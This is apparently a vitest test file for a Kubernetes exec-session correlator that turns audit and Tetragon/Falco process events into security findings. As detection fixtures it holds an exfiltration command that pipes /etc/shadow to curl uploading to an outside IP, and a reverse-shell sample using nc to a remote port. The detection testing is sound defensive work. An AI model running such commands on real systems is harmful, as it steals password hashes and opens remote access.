import { describe, expect, it } from "vitest";
import { FindingSchema } from "@outlier/contracts";
import { ExecSessionCorrelator } from "./exec-session.ts";
import { at, execAudit, falcoExec, processExec, tetragonExec, type TetragonProcess } from "./test-support.ts";

const IDLE_S = 120;

/** What Tetragon reports as the parent of a process entering a container from outside (kubectl exec, probes). */
const RUNC: TetragonProcess = { binary: "/usr/bin/runc", args: "--root /run/containerd/runc/k8s.io exec", pid: 4100, execId: "bm9kZS1hOjEwMDA6NDEwMA==" };
/** The application's main process, the root of the container's init tree. */
const APP: TetragonProcess = { binary: "/usr/local/bin/web-server", args: "--port 8080", pid: 4001, execId: "bm9kZS1hOjUwMDo0MDAx" };

/** The Tetragon process a test makes, by pid: its exec id is derived, so a child can name it as parent. */
function proc(binary: string, pid: number, args?: string): TetragonProcess {
  return { binary, args, pid, execId: Buffer.from(`node-a:${pid * 1000}:${pid}`).toString("base64") };
}

function shellExec(command: string[], overrides: Parameters<typeof execAudit>[0] = {}) {
  const query = command.map((c) => `command=${encodeURIComponent(c)}`).join("&");
  return execAudit({ requestURI: `/api/v1/namespaces/shop/pods/web-6f87496b94-qdlh8/exec?${query}&container=app&stdin=true&stdout=true&tty=true`, ...overrides });
}

describe("ExecSessionCorrelator", () => {
  it("rolls the processes of one exec session up into one exec.session finding naming the user", () => {
    const sessions = new ExecSessionCorrelator();
    expect(sessions.openFromAudit(execAudit())).toBe(true); // sh -c id
    const sh = proc("/bin/sh", 100, "-c id");
    const joined = [
      tetragonExec({ ...sh, parent: RUNC, seconds: 1 }),
      tetragonExec({ ...proc("/usr/bin/id", 101), parent: sh, seconds: 1.1 }),
      tetragonExec({ ...proc("/usr/bin/id", 102), parent: sh, seconds: 30 }),
    ].map((p) => sessions.observe(p));
    // The workload's own worker, in the init tree, during the session: not part of it.
    const worker = sessions.observe(tetragonExec({ ...proc("/usr/sbin/nginx", 7), parent: APP, inInitTree: true, seconds: 5 }));
    expect(joined).toEqual(["in-session", "in-session", "in-session"]);
    expect(worker).toBe("none");

    expect(sessions.flush(at(30 + IDLE_S))).toEqual([]); // still within the idle gap
    const findings = sessions.flush(at(31 + IDLE_S));
    expect(findings).toHaveLength(1);
    const finding = FindingSchema.parse(findings[0]);
    expect(finding).toMatchObject({
      type: "exec.session",
      severity: "medium",
      time: at(0),
      cluster: "prod",
      pod: "web-6f87496b94-qdlh8",
      container: "app",
      node: "node-a",
      workload: { kind: "Deployment", name: "web", namespace: "shop" },
      summary: "alice@example.com exec into shop/web-6f87496b94-qdlh8 (app): sh -c id; 3 process(es) run",
      dedupKey: "exec.session|alice@example.com|shop/web-6f87496b94-qdlh8/app",
      evidence: {
        user: { username: "alice@example.com", groups: ["system:authenticated"] },
        sourceIPs: ["10.0.0.7"],
        command: ["sh", "-c", "id"],
        tty: true,
        start: at(0),
        end: at(30),
        closedBy: "idle",
        execCount: 3,
        droppedProcesses: 0,
        processes: [
          { binary: "/bin/sh", args: "-c id", count: 1, firstTime: at(1) },
          { binary: "/usr/bin/id", count: 2, firstTime: at(1.1) },
        ],
        riskyProcesses: [],
        advice: expect.stringContaining("planned work"),
      },
    });
    expect(sessions.openSessions).toBe(0);
    expect(sessions.flush(at(1000))).toEqual([]); // emitted once
  });

  it("owns only its own process tree: not exec probes, not what the application spawns, not another process from outside", () => {
    const sessions = new ExecSessionCorrelator();
    sessions.openFromAudit(shellExec(["sh"]));
    const sh = proc("/bin/sh", 200);
    const ls = proc("/bin/ls", 201, "-la /app");
    expect(sessions.observe(tetragonExec({ ...sh, parent: RUNC, seconds: 0.4 }))).toBe("in-session");
    expect(sessions.observe(tetragonExec({ ...ls, parent: sh, seconds: 3 }))).toBe("in-session");
    // The kubelet's exec probe, every 10 s, started by runc beside the container's tree like the session's shell.
    const probes = [5, 15, 25, 35].map((s) => sessions.observe(tetragonExec({ ...proc("/bin/grpc_health_probe", 300 + s, "-addr=:8080"), parent: RUNC, probe: true, seconds: s })));
    expect(probes).not.toContain("in-session");
    // A reverse shell the application spawns while the person's shell is open: the app's, judged as usual.
    const reverse = proc("/bin/sh", 400, "-i");
    expect(sessions.observe(tetragonExec({ ...reverse, parent: APP, inInitTree: true, seconds: 20 }))).toBe("none");
    expect(sessions.observe(tetragonExec({ ...proc("/usr/bin/nc", 401, "203.0.113.9 4444"), parent: reverse, inInitTree: true, seconds: 21 }))).toBe("none");
    // A second process from outside that is not the session's root nor below it: held for a session of its own.
    expect(sessions.observe(tetragonExec({ ...proc("/bin/sh", 500), parent: RUNC, seconds: 40 }))).toBe("held");

    const [finding] = sessions.flush(at(40 + IDLE_S + 1));
    expect(finding?.evidence).toMatchObject({
      execCount: 2,
      processes: [
        { binary: "/bin/sh", count: 1, firstTime: at(0.4) },
        { binary: "/bin/ls", args: "-la /app", count: 1, firstTime: at(3) },
      ],
    });
  });

  it("takes as its root only a process running the requested command, soon after the request, in its container", () => {
    const sessions = new ExecSessionCorrelator({ graceMs: 60_000 });
    sessions.openFromAudit(shellExec(["/bin/bash"]));
    const observe = (binary: string, pid: number, seconds: number, container?: string) =>
      sessions.observe(tetragonExec({ ...proc(binary, pid), parent: RUNC, seconds, container }));
    expect(observe("/bin/sh", 10, 1)).toBe("held"); // not the command
    expect(observe("/bin/bash", 11, 1, "sidecar")).toBe("held"); // not the container
    expect(observe("/bin/bash", 12, 61)).toBe("held"); // too late to be the request's process
    expect(observe("/usr/bin/bash", 13, 2)).toBe("in-session"); // the path may differ: the base name matches
    expect(observe("/bin/bash", 14, 3)).toBe("held"); // an exec starts one process: the root is taken
    const [finding] = sessions.flush(at(61 + IDLE_S + 1));
    expect(finding?.evidence).toMatchObject({ execCount: 1, processes: [{ binary: "/usr/bin/bash" }] });
  });

  it("is high when what ran in it read credentials or sent data out, and says which processes and why", () => {
    const sessions = new ExecSessionCorrelator();
    const script = "cat /etc/shadow | curl -s -T - https://203.0.113.50/u/web";
    sessions.openFromAudit(shellExec(["sh", "-c", script]));
    const sh = proc("/bin/sh", 600, `-c "${script}"`);
    sessions.observe(tetragonExec({ ...sh, parent: RUNC, seconds: 0.3 }));
    sessions.observe(tetragonExec({ ...proc("/bin/cat", 601, "/etc/shadow"), parent: sh, seconds: 0.4 }));
    sessions.observe(tetragonExec({ ...proc("/usr/bin/curl", 602, "-s -T - https://203.0.113.50/u/web"), parent: sh, seconds: 0.4 }));
    const [finding] = sessions.flush(at(IDLE_S + 1));
    expect(finding).toMatchObject({
      severity: "high",
      summary: expect.stringMatching(/; 3 process\(es\) run; reads the password hashes \(\/etc\/shadow\), moves data out \(curl -T\)$/),
      dedupKey: "exec.session|alice@example.com|shop/web-6f87496b94-qdlh8/app|high",
      evidence: {
        riskyProcesses: [
          { binary: "/bin/sh", time: at(0.3), reasons: ["reads the password hashes (/etc/shadow)", "moves data out (curl -T)"] },
          { binary: "/bin/cat", args: "/etc/shadow", time: at(0.4), reasons: ["reads the password hashes (/etc/shadow)"] },
          { binary: "/usr/bin/curl", time: at(0.4), reasons: ["moves data out (curl -T)"] },
        ],
        advice: expect.stringContaining("rotate"),
      },
    });
  });

  it("keeps out other containers, other pods, and processes after the idle gap", () => {
    const sessions = new ExecSessionCorrelator();
    sessions.openFromAudit(execAudit());
    // From outside the init tree with no session of theirs open: held for a session that may still come.
    expect(sessions.observe(processExec({ binary: "/bin/ls", container: "sidecar", seconds: 1 }))).toBe("held");
    expect(sessions.observe(processExec({ binary: "/bin/ls", pod: "web-6f87496b94-zzzzz", seconds: 1 }))).toBe("held");
    expect(sessions.observe(processExec({ binary: "/bin/ls", seconds: 1 + IDLE_S }))).toBe("held");
    expect(sessions.observe(processExec({ binary: "/bin/ls", seconds: -10 }))).toBe("held"); // long before the exec
    expect(sessions.observe(processExec({ binary: "/bin/ls", maybeExecProbe: true, seconds: 2 }))).toBe("none");
  });

  it("keeps a shell idle past the gap: what it runs next is the session's next part, reported on its own", () => {
    const sessions = new ExecSessionCorrelator();
    sessions.openFromAudit(shellExec(["sh"]));
    const sh = proc("/bin/sh", 700);
    sessions.observe(tetragonExec({ ...sh, parent: RUNC, seconds: 0.5 }));
    sessions.observe(tetragonExec({ ...proc("/bin/ls", 701), parent: sh, seconds: 10 }));
    const [first] = sessions.flush(at(10 + IDLE_S + 1)); // idle: part 1 is reported
    expect(first?.evidence).toMatchObject({ part: 1, execCount: 2 });
    // Five minutes later the person types again in the same shell.
    const later = [
      tetragonExec({ ...proc("/bin/cat", 702, "/etc/shadow"), parent: sh, seconds: 300 }),
      tetragonExec({ ...proc("/usr/bin/head", 703, "-1"), parent: sh, seconds: 301 }),
    ];
    expect(later.map((e) => sessions.observe(e))).toEqual(["in-session", "in-session"]);
    const [second] = sessions.flush(at(301 + IDLE_S + 1));
    expect(second).toMatchObject({
      severity: "high",
      time: at(300),
      summary: expect.stringContaining("2 process(es) run after an idle gap (part 2); reads the password hashes"),
      evidence: { auditID: "exec-0001", part: 2, partStart: at(300), start: at(0), execCount: 2 },
    });
    expect(second?.id).not.toBe(first?.id);
    // Not the application's processes, and nothing once a session could no longer last (an hour after its last process).
    expect(sessions.observe(tetragonExec({ ...proc("/bin/ls", 704), parent: APP, inInitTree: true, seconds: 400 }))).toBe("none");
    sessions.flush(at(301 + 3600 + IDLE_S + 2));
    expect(sessions.observe(tetragonExec({ ...proc("/bin/ls", 705), parent: sh, seconds: 301 + 3600 + IDLE_S + 3 }))).toBe("held");
  });

  it("lets its process tree, seen before its late audit event, join the session, and only that tree", () => {
    const sessions = new ExecSessionCorrelator({ graceMs: 60_000 });
    // The runtime events arrive first; the audit webhook batch comes 20 s later.
    const sh = proc("/bin/sh", 100, "-c id");
    const shell = tetragonExec({ ...sh, parent: RUNC, seconds: 0.5 });
    const id = tetragonExec({ ...proc("/usr/bin/id", 101), parent: sh, seconds: 0.6 });
    const probe = tetragonExec({ ...proc("/bin/grpc_health_probe", 102, "-addr=:8080"), parent: RUNC, probe: true, seconds: 2 });
    const stranger = tetragonExec({ ...proc("/bin/ls", 103), parent: RUNC, seconds: 4 });
    const other = tetragonExec({ ...proc("/bin/sh", 300, "-c id"), parent: RUNC, pod: "other-pod", seconds: 20 });
    expect([shell, id, stranger, other].map((e) => sessions.observe(e))).toEqual(["held", "held", "held", "held"]);
    expect(sessions.observe(probe)).not.toBe("in-session");
    expect(sessions.observe(tetragonExec({ ...proc("/usr/sbin/nginx", 7), parent: APP, inInitTree: true, seconds: 3 }))).toBe("none");
    expect(sessions.openFromAudit(execAudit())).toBe(true);
    const claimed = (e: { id: string }) => sessions.claimed(e.id);
    expect([shell, id, probe, stranger, other].map(claimed)).toEqual([true, true, false, false, false]);
    expect(claimed(shell)).toBe(false); // once
    const [finding] = sessions.flush(at(20 + IDLE_S + 1));
    expect(finding?.evidence.processes).toEqual([
      { binary: "/bin/sh", args: "-c id", count: 1, firstTime: at(0.5) },
      { binary: "/usr/bin/id", count: 1, firstTime: at(0.6) },
    ]);
  });

  it("drops held processes older than the grace window", () => {
    const sessions = new ExecSessionCorrelator({ graceMs: 10_000, idleGapMs: 600_000 });
    sessions.observe(processExec({ binary: "/bin/sh", seconds: 0.5 }));
    expect(sessions.flush(at(11))).toEqual([]); // nothing open; the held process expires
    sessions.openFromAudit(execAudit());
    const [finding] = sessions.flush(at(2000));
    expect(finding?.evidence).toMatchObject({ execCount: 0, processes: [] });
  });

  it("joins a Falco shell by its runtime parent and the command, and its children by parent pid on the same node", () => {
    const sessions = new ExecSessionCorrelator();
    sessions.openFromAudit(shellExec(["bash"]));
    const observe = (spec: Parameters<typeof falcoExec>[0]) => sessions.observe(falcoExec(spec));
    expect(observe({ binary: "/usr/bin/bash", pid: 200, parent: { name: "runc:[2:INIT]", pid: 199 }, seconds: 1 })).toBe("in-session");
    expect(observe({ binary: "/usr/bin/curl", args: "-s localhost:8080/metrics", pid: 201, parent: { name: "bash", pid: 200 }, seconds: 2 })).toBe("in-session");
    // The application's worker, and a shell it spawns during the session: not the session's.
    expect(observe({ binary: "/usr/sbin/php-fpm", pid: 50, parent: { name: "php-fpm", pid: 1 }, seconds: 3 })).toBe("none");
    expect(observe({ binary: "/bin/bash", args: "-i", pid: 51, parent: { name: "php-fpm", pid: 50 }, seconds: 4 })).toBe("none");
    // The same parent pid on another node is another process.
    expect(observe({ binary: "/bin/ls", pid: 202, parent: { name: "bash", pid: 200 }, node: "node-b", seconds: 5 })).toBe("none");
    const [finding] = sessions.flush(at(10 + IDLE_S));
    expect(finding?.evidence.processes).toEqual([
      { binary: "/usr/bin/bash", count: 1, firstTime: at(1) },
      { binary: "/usr/bin/curl", args: "-s localhost:8080/metrics", count: 1, firstTime: at(2) },
    ]);
  });

  it("takes the same Falco exec again when another rule alerts on it (Terminal shell in container), open or held", () => {
    const root = { binary: "/bin/sh", pid: 200, parent: { name: "runc", pid: 199 }, seconds: 1 };
    const open = new ExecSessionCorrelator();
    open.openFromAudit(shellExec(["sh"]));
    expect(open.observe(falcoExec(root))).toBe("in-session");
    expect(open.observe(falcoExec({ ...root, rule: "Terminal shell in container" }))).toBe("in-session");
    expect(open.observe(falcoExec({ binary: "/bin/sh", pid: 300, parent: { name: "runc", pid: 199 }, seconds: 2 }))).toBe("held"); // another shell: not the root again
    const late = new ExecSessionCorrelator();
    expect(late.observe(falcoExec(root))).toBe("held");
    const again = falcoExec({ ...root, rule: "Terminal shell in container" });
    expect(late.observe(again)).toBe("held");
    late.openFromAudit(shellExec(["sh"]));
    expect(late.claimed(again.id)).toBe(true);
  });

  it("holds the children of a held Falco shell too, so its whole tree joins a late session", () => {
    const sessions = new ExecSessionCorrelator();
    const observe = (spec: Parameters<typeof falcoExec>[0]) => sessions.observe(falcoExec(spec));
    observe({ binary: "/bin/bash", pid: 200, parent: { name: "runc", pid: 199 }, seconds: 1 });
    observe({ binary: "/usr/bin/id", pid: 201, parent: { name: "bash", pid: 200 }, seconds: 2 });
    observe({ binary: "/bin/bash", args: "-i", pid: 51, parent: { name: "php-fpm", pid: 50 }, seconds: 3 });
    sessions.openFromAudit(shellExec(["bash"]));
    const [finding] = sessions.flush(at(10 + IDLE_S));
    expect(finding?.evidence).toMatchObject({ execCount: 2, processes: [{ binary: "/bin/bash" }, { binary: "/usr/bin/id" }] });
  });

  it("opens sessions only for allowed exec/attach at ResponseStarted, once per auditID", () => {
    const sessions = new ExecSessionCorrelator();
    expect(sessions.openFromAudit(execAudit({ stage: "ResponseComplete", responseStatus: { code: 403 } }))).toBe(false);
    expect(sessions.openFromAudit(execAudit({ stage: "ResponseComplete" }))).toBe(false);
    expect(sessions.openFromAudit(execAudit())).toBe(true);
    expect(sessions.openFromAudit(execAudit())).toBe(false); // redelivered
    const attach = execAudit({
      auditID: "attach-1",
      objectRef: { resource: "pods", subresource: "attach", namespace: "shop", name: "web-6f87496b94-qdlh8" },
      requestURI: "/api/v1/namespaces/shop/pods/web-6f87496b94-qdlh8/attach?container=app&stdin=true",
    });
    expect(sessions.openFromAudit(attach)).toBe(true);
    expect(sessions.openSessions).toBe(2);
    const attachOnly = new ExecSessionCorrelator();
    attachOnly.openFromAudit(attach);
    // An attach starts no process of its own (it talks to the container's main process): nothing from outside is its.
    expect(attachOnly.observe(processExec({ binary: "/bin/sh", pid: 9, seconds: 1 }))).toBe("held");
  });

  it("is bounded: the least active session closes early, and extra distinct processes are only counted", () => {
    const sessions = new ExecSessionCorrelator({ maxOpenSessions: 2, maxProcessesPerSession: 2 });
    const podExec = (auditID: string, pod: string) =>
      execAudit({ auditID, objectRef: { resource: "pods", subresource: "exec", namespace: "shop", name: pod } });
    sessions.openFromAudit(podExec("a", "pod-a"));
    sessions.openFromAudit(podExec("b", "pod-b"));
    sessions.observe(processExec({ binary: "/bin/sh", args: "-c id", pid: 1, pod: "pod-b", seconds: 0.5 }));
    for (const [i, binary] of ["/bin/a", "/bin/b", "/bin/a"].entries()) {
      sessions.observe(processExec({ binary, pid: 10 + i, parent: { binary: "/bin/sh", pid: 1 }, pod: "pod-b", seconds: i + 1 }));
    }
    sessions.openFromAudit(podExec("c", "pod-c")); // evicts "a", the least recently active
    expect(sessions.openSessions).toBe(2);
    const early = sessions.flush(at(10));
    expect(early.map((f) => [f.pod, f.evidence.closedBy])).toEqual([["pod-a", "capacity"]]);

    const [b] = sessions.flush(at(10 + IDLE_S)).filter((f) => f.pod === "pod-b");
    expect(b?.evidence).toMatchObject({ execCount: 4, droppedProcesses: 1 });
    expect((b?.evidence.processes as unknown[]).length).toBe(2);
  });

  it("closes a busy session at its maximum duration", () => {
    const sessions = new ExecSessionCorrelator({ maxDurationMs: 300_000 });
    sessions.openFromAudit(execAudit());
    expect(sessions.observe(processExec({ binary: "/bin/sh", args: "-c id", pid: 1, seconds: 1 }))).toBe("in-session");
    const date = (seconds: number) => sessions.observe(processExec({ binary: "/bin/date", pid: seconds, parent: { binary: "/bin/sh", pid: 1 }, seconds }));
    for (let s = 60; s <= 240; s += 60) expect(date(s)).toBe("in-session");
    expect(date(301)).toBe("held"); // its shell's session is over: held, then judged as usual
    const [finding] = sessions.flush(at(301));
    expect(finding?.evidence).toMatchObject({ closedBy: "max-duration", execCount: 5 });
  });
});
